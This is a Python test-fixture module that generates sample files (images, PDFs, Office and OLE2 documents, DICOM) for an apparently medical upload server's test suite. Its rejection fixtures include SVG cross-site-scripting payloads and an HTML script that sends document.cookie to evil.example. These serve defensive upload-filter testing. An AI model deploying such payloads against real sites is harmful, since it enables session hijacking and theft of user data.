"""Sample files for the end-to-end suite, generated in Python so the repository ships no binaries.

Each builder returns the bytes of a small but structurally valid file of one type; what libmagic 5.44
reports for each is noted next to it (checked with `file --mime-type`).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

# --- images -------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(width: int = 2, height: int = 2, padding: int = 0) -> bytes:
    """An RGB PNG (image/png). `padding` extra bytes go in an ancillary chunk to reach a chosen size."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = b""
    for y in range(height):
        rows += b"\x00" + b"".join(bytes([(x * 60) % 256, (y * 90) % 256, 200]) for x in range(width))
    out = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
    if padding:
        # A private ancillary chunk ("meDv": lowercase first letter = ancillary) that decoders skip.
        out += _png_chunk(b"meDv", b"\x00" * max(0, padding - 12))
    out += _png_chunk(b"IDAT", zlib.compress(rows)) + _png_chunk(b"IEND", b"")
    return out


def png_of_size(size: int) -> bytes:
    """A valid PNG of exactly `size` bytes (size must be at least a few hundred bytes)."""
    base = len(png())
    body = png(padding=size - base)
    assert len(body) == size, (len(body), size)
    return body


def jpeg() -> bytes:
    """A baseline 8x8 grey JPEG (image/jpeg): SOI, JFIF, one quant table, SOF0, minimal Huffman tables."""
    soi = b"\xff\xd8"
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes([1] * 64)
    sof0 = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 8, 8, 1) + b"\x01\x11\x00"
    # DC table 0: one code of length 1 for category 0.  AC table 0: one code of length 1 for EOB (0x00).
    dht_dc = b"\xff\xc4" + struct.pack(">H", 20) + b"\x00" + bytes([1] + [0] * 15) + b"\x00"
    dht_ac = b"\xff\xc4" + struct.pack(">H", 20) + b"\x10" + bytes([1] + [0] * 15) + b"\x00"
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00" + b"\x00\x3f\x00"
    # One block: DC diff category 0 (code '0'), then EOB (code '0'); pad the byte with 1s.
    scan = b"\x3f"
    eoi = b"\xff\xd9"
    return soi + app0 + dqt + sof0 + dht_dc + dht_ac + sos + scan + eoi


def gif() -> bytes:
    """A 1x1 GIF89a (image/gif)."""
    return (
        b"GIF89a"
        + struct.pack("<HH", 1, 1)
        + b"\x80\x00\x00"  # global colour table of 2 entries
        + b"\x00\x00\x00\xff\xff\xff"
        + b"\x2c"
        + struct.pack("<HHHH", 0, 0, 1, 1)
        + b"\x00"  # image descriptor
        + b"\x02\x02\x44\x01\x00"  # LZW min code size 2, one sub-block, terminator
        + b"\x3b"
    )


def webp() -> bytes:
    """A 1x1 lossless WebP (image/webp)."""
    vp8l = b"\x2f\x00\x00\x00\x00\x88\x88\x08\x08\x00\x00"  # signature 0x2f, 1x1, no alpha, trivial stream
    chunk = b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l + (b"\x00" if len(vp8l) % 2 else b"")
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


SVG_SAFE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" viewBox="0 0 10 10">\n'
    b'  <defs><linearGradient id="g"><stop offset="0" stop-color="#0a0"/></linearGradient></defs>\n'
    b'  <rect width="10" height="10" fill="url(#g)"/>\n'
    b"</svg>\n"
)


def svg_unsafe(kind: str) -> bytes:
    """An SVG carrying one active-content trick: script, onload, javascript, external_href."""
    payloads = {
        "script": b"<script>alert(document.cookie)</script>",
        "onload": b'<rect width="10" height="10" onload="alert(1)"/>',
        "javascript": b'<a href="javascript:alert(1)"><rect width="10" height="10"/></a>',
        "external_href": b'<image href="https://evil.example/track.png" width="10" height="10"/>',
    }
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">\n'
        + payloads[kind]
        + b"\n</svg>\n"
    )


# --- documents ----------------------------------------------------------------------------------


def pdf(text: str = "medvault sample") -> bytes:
    """A one-page PDF 1.4 with a correct cross-reference table (application/pdf)."""
    content = f"BT /F1 12 Tf 20 50 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_of_size(size: int) -> bytes:
    """A PDF padded with a trailing comment to exactly `size` bytes."""
    base = pdf()
    pad = size - len(base) - 2
    assert pad >= 0
    return base + b"%" + b"x" * pad + b"\n"


_CT_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
_CT_XLSX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="%s"/></Relationships>'
)


def _zip(entries: list[tuple[str, str | bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def docx(late_word_entry: bool = False) -> bytes:
    """A minimal Word document. With `late_word_entry`, `word/` comes after other large entries, the case
    libmagic reports as plain application/zip (STACK-NOTES)."""
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>medvault sample</w:t></w:r></w:p></w:body></w:document>"
    )
    entries: list[tuple[str, str | bytes]] = [("[Content_Types].xml", _CT_DOCX), ("_rels/.rels", _RELS % "word/document.xml")]
    if late_word_entry:
        entries += [(f"docProps/custom{i}.xml", "<x>" + "padding " * 400 + f"{i}</x>") for i in range(6)]
        entries += [("customXml/item1.xml", bytes(range(256)) * 64)]
    entries += [("word/document.xml", document)]
    return _zip(entries)


def xlsx() -> bytes:
    """A minimal Excel workbook with one sheet."""
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    workbook_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
        ' Target="worksheets/sheet1.xml"/></Relationships>'
    )
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>42</t></is></c></row></sheetData></worksheet>'
    )
    return _zip(
        [
            ("[Content_Types].xml", _CT_XLSX),
            ("_rels/.rels", _RELS % "xl/workbook.xml"),
            ("xl/workbook.xml", workbook),
            ("xl/_rels/workbook.xml.rels", workbook_rels),
            ("xl/worksheets/sheet1.xml", sheet),
        ]
    )


def plain_zip() -> bytes:
    """A zip that is not an Office document (application/zip)."""
    return _zip([("notes.txt", "hello"), ("data/values.bin", bytes(range(256)))])


def _cfb(stream_name: str, root_clsid: bytes) -> bytes:
    """A minimal Compound File Binary (OLE2) v3 container with one 4 KiB stream: the container of the old
    .doc/.xls formats. libmagic names the format from the stream name (WordDocument, Workbook)."""
    sector = 512
    free, end, fat_sect, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    stream_sectors = 8  # 4096 bytes: at the mini-stream cutoff, so it lives in regular sectors
    header = bytearray(sector)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<I", header, 76, 0)  # DIFAT[0] = sector 0 holds the FAT
    for i in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * i, free)
    fat = [fat_sect, end] + [3 + i for i in range(stream_sectors - 1)] + [end]
    fat += [free] * (sector // 4 - len(fat))
    fat_bytes = struct.pack("<%dI" % len(fat), *fat)

    def entry(name: str, kind: int, child: int, start: int, size: int, clsid: bytes = b"\x00" * 16) -> bytes:
        raw = bytearray(128)
        encoded = (name + "\x00").encode("utf-16-le")
        raw[0 : len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 64, len(encoded), kind, 1)  # colour black
        struct.pack_into("<III", raw, 68, nostream, nostream, child)
        raw[80:96] = clsid
        struct.pack_into("<II", raw, 116, start, size)
        return bytes(raw)

    directory = entry("Root Entry", 5, 1, end, 0, root_clsid) + entry(stream_name, 2, nostream, 2, 4096)
    directory += b"\x00" * (sector - len(directory))
    stream = (b"medvault sample " * 256)[:4096]
    return bytes(header) + fat_bytes + directory + stream


def doc() -> bytes:
    """An old-style Word document container (application/msword)."""
    clsid = bytes.fromhex("0609020000000000c000000000000046")  # {00020906-0000-0000-C000-000000000046}
    return _cfb("WordDocument", clsid)


def xls() -> bytes:
    """An old-style Excel workbook container (application/vnd.ms-excel)."""
    clsid = bytes.fromhex("2008020000000000c000000000000046")  # {00020820-0000-0000-C000-000000000046}
    return _cfb("Workbook", clsid)


TEXT = b"Discharge summary\nPatient stable. Follow up in 2 weeks.\n"
CSV = b"date,test,value,unit\n2024-01-02,glucose,5.4,mmol/L\n2024-02-03,glucose,5.1,mmol/L\n"


# --- medical ------------------------------------------------------------------------------------


def _dicom_element(group: int, element: int, vr: bytes, value: bytes) -> bytes:
    if len(value) % 2:
        value += b"\x00" if vr in (b"UI", b"OB") else b" "
    if vr in (b"OB", b"OW", b"SQ", b"UN", b"UT"):
        return struct.pack("<HH", group, element) + vr + b"\x00\x00" + struct.pack("<I", len(value)) + value
    return struct.pack("<HH", group, element) + vr + struct.pack("<H", len(value)) + value


def _dicom_dataset(pixel_bytes: int) -> tuple[bytes, bytes]:
    """(file meta group 0002, dataset) in explicit VR little endian."""
    transfer_syntax = b"1.2.840.10008.1.2.1"
    sop_class = b"1.2.840.10008.5.1.4.1.1.7"  # Secondary Capture Image Storage
    meta_body = (
        _dicom_element(0x0002, 0x0001, b"OB", b"\x00\x01")
        + _dicom_element(0x0002, 0x0002, b"UI", sop_class)
        + _dicom_element(0x0002, 0x0003, b"UI", b"1.2.826.0.1.3680043.8.498.1")
        + _dicom_element(0x0002, 0x0010, b"UI", transfer_syntax)
    )
    meta = _dicom_element(0x0002, 0x0000, b"UL", struct.pack("<I", len(meta_body))) + meta_body
    dataset = (
        _dicom_element(0x0008, 0x0016, b"UI", sop_class)
        + _dicom_element(0x0008, 0x0060, b"CS", b"OT")
        + _dicom_element(0x0010, 0x0010, b"PN", b"Anonymous^Sample")
        + _dicom_element(0x0028, 0x0010, b"US", struct.pack("<H", 1))
        + _dicom_element(0x0028, 0x0011, b"US", struct.pack("<H", 1))
    )
    if pixel_bytes:
        dataset += struct.pack("<HH", 0x7FE0, 0x0010) + b"OB\x00\x00" + struct.pack("<I", pixel_bytes)
    return meta, dataset


def dicom(preamble: bool = True) -> bytes:
    """A small DICOM Part 10 file. With the preamble libmagic says application/dicom; without it (the
    stream starts at the group 0002 file-meta elements) the server must recognise it itself."""
    meta, dataset = _dicom_dataset(0)
    head = (b"\x00" * 128 + b"DICM") if preamble else b""
    return head + meta + dataset


def dicom_stream_head(total_size: int) -> bytes:
    """The first bytes of a DICOM file of `total_size` bytes whose pixel data (zeros, supplied by the caller)
    runs to the end: lets a test or benchmark stream a large DICOM without building it in memory."""
    meta, dataset = _dicom_dataset(1)
    head_len = 128 + 4 + len(meta) + len(dataset) - 12  # minus the placeholder pixel element
    pixel_bytes = total_size - head_len - 12
    meta, dataset = _dicom_dataset(pixel_bytes)
    head = b"\x00" * 128 + b"DICM" + meta + dataset
    assert len(head) + pixel_bytes == total_size
    return head


# --- things that must be refused ----------------------------------------------------------------


def elf() -> bytes:
    """A 64-bit x86-64 position-independent executable header (application/x-executable)."""
    ident = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x1040, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 3, 4, 0x238, 0x238, 0x238, 28, 28, 1)  # PT_INTERP
    interp = b"/lib64/ld-linux-x86-64.so.2\x00"
    body = header + phdr
    body += b"\x00" * (0x238 - len(body)) + interp
    return body + b"\x00" * 256


HTML = (
    b"<!DOCTYPE html>\n<html><head><title>Results</title></head>\n"
    b"<body><p>Click</p><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n"
)
